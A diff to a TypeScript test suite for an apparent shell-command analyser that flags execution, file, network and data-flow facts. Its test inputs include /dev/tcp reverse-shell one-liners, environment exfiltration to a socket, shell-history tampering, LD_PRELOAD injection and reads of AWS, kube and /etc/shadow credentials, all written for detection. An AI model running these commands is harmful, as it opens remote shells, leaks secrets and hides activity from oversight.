@@ -98,6 +98,11 @@ describe('programs run (ExecFact)', () => {
     ['sh <<EOF\nls\nEOF', false],
     ['sh <<< ls', false],
     ['sh < script.sh', false],
+    // awk `print ... | "sh"` and perl `open(F, "| sh")` feed the shell from a pipe.
+    ['awk \'BEGIN { print "id" | "sh" }\'', false],
+    ['perl -e \'open(F, "| sh"); print F "id"\'', false],
+    ['awk \'BEGIN { system("sh") }\'', true],
+    ['exec 9<>/dev/tcp/10.0.0.1/80; sh <&9', false],
   ])('stdinInteractive for %j is %s', (input, interactive) => {
     const sh = of(input, 'exec').find((e) => e.program === 'sh');
     expect(sh?.stdinInteractive).toBe(interactive);
@@ -162,10 +167,30 @@ describe('file operations (FileOpFact)', () => {
     ['tar czf out.tgz ~/.aws', { op: 'read', path: '~/.aws', actor: 'tar' }],
     ['base64 ~/.kube/config', { op: 'read', path: '~/.kube/config' }],
     ['echo $(< /etc/shadow)', { op: 'read', path: '/etc/shadow' }],
+    // History tampering reads as truncating the history file (FS-AST-023).
+    ['export HISTFILE=/dev/null', { op: 'truncate', path: '~/.bash_history', actor: 'bash' }],
+    ['unset HISTFILE', { op: 'truncate', path: '~/.bash_history' }],
+    ['HISTSIZE=0', { op: 'truncate', path: '~/.bash_history' }],
+    ['export HISTFILESIZE=0', { op: 'truncate', path: '~/.bash_history' }],
+    ['HISTFILE= bash', { op: 'truncate', path: '~/.bash_history' }],
+    // Preloaded libraries are executed by the program (SH-AST-021).
+    ['LD_PRELOAD=/tmp/x.so ls', { op: 'execute', path: '/tmp/x.so', actor: 'ls' }],
+    ['DYLD_INSERT_LIBRARIES=/tmp/x.dylib ./app', { op: 'execute', path: '/tmp/x.dylib', actor: 'app' }],
+    ['LD_PRELOAD=./a.so:/tmp/b.so ls', { op: 'execute', path: '/tmp/b.so' }],
+    ['export LD_PRELOAD=/tmp/x.so', { op: 'execute', path: '/tmp/x.so', actor: 'bash' }],
   ];
   it.each(cases)('%s', (input, want) => {
     const ops = of(input, 'file');
     expect(ops, JSON.stringify(ops)).toContainEqual(expect.objectContaining(want));
+  });
+
+  it.each([
+    'export HISTSIZE=10000',
+    'HISTFILE=~/.hist_proj',
+    'unset HISTIGNORE',
+    'LD_LIBRARY_PATH=/opt/lib ./app',
+  ])('no history truncate or library preload for %j', (input) => {
+    expect(of(input, 'file').filter((f) => f.op === 'truncate' || f.op === 'execute')).toEqual([]);
   });
 
   it.each(['echo ~/.ssh/id_rsa', 'ls ~/.ssh', 'cmd 2>/dev/null', 'echo x >&2', 'rm -rf ./build'])(
@@ -177,7 +202,14 @@ describe('file operations (FileOpFact)', () => {
 });
 
 describe('network access (NetOpFact)', () => {
-  type Want = { host: string; port?: number; sends?: boolean; direction?: string; actor?: string };
+  type Want = {
+    host: string;
+    port?: number;
+    sends?: boolean;
+    direction?: string;
+    actor?: string;
+    url?: string;
+  };
   const cases: [string, Want][] = [
     ['curl https://api.github.com/x', { host: 'api.github.com', port: 443, sends: false, actor: 'curl' }],
     ['curl -d a=1 http://x.example:8080/', { host: 'x.example', port: 8080, sends: true }],
@@ -199,8 +231,14 @@ describe('network access (NetOpFact)', () => {
     ['host example.com', { host: 'example.com' }],
     ['ping -c 1 example.com', { host: 'example.com' }],
     ['http POST api.example.com/x name=a', { host: 'api.example.com', sends: true }],
-    ['cat < /dev/tcp/10.1.1.1/80', { host: '10.1.1.1', port: 80 }],
-    ['echo x > /dev/udp/10.1.1.1/53', { host: '10.1.1.1', port: 53, sends: true }],
+    ['cat < /dev/tcp/10.1.1.1/80', { host: '10.1.1.1', port: 80, url: '/dev/tcp/10.1.1.1/80' }],
+    [
+      'echo x > /dev/udp/10.1.1.1/53',
+      { host: '10.1.1.1', port: 53, sends: true, url: '/dev/udp/10.1.1.1/53' },
+    ],
+    ['exec 196<>/dev/tcp/10.1.1.1/4444', { host: '10.1.1.1', port: 4444, sends: true, actor: 'exec' }],
+    ['exec 3</dev/tcp/10.1.1.1/80', { host: '10.1.1.1', url: '/dev/tcp/10.1.1.1/80' }],
+    ['cat <>/dev/tcp/10.1.1.1/80', { host: '10.1.1.1', sends: true, actor: 'cat' }],
     ['git clone https://github.com/org/repo', { host: 'github.com', actor: 'git' }],
     ['python3 -m http.server 8080', { host: '0.0.0.0', port: 8080, direction: 'listen' }],
   ];
@@ -244,9 +282,16 @@ describe('data flows (FlowFact)', () => {
       'file:~/.aws/credentials -> net:x.example',
     ],
     ['curl https://x.example > /tmp/s.sh', 'net:x.example -> file:/tmp/s.sh'],
+    // A socket kept open on a descriptor by exec, then wired to a shell.
+    ['exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196', 'net:10.0.0.1 -> exec:sh'],
+    ['exec 5<>/dev/tcp/10.0.0.1/4242; env >&5', 'env:* -> net:10.0.0.1'],
   ];
   it.each(cases)('%s', (input, want) => {
     expect(flows(input)).toContain(want);
+  });
+
+  it('a descriptor not opened on a socket carries nothing to the network', () => {
+    expect(flows('exec 3>./log.txt; echo hi >&3; sh <&3')).toEqual([]);
   });
 
   it('no flow for a plain download to stdout', () => {
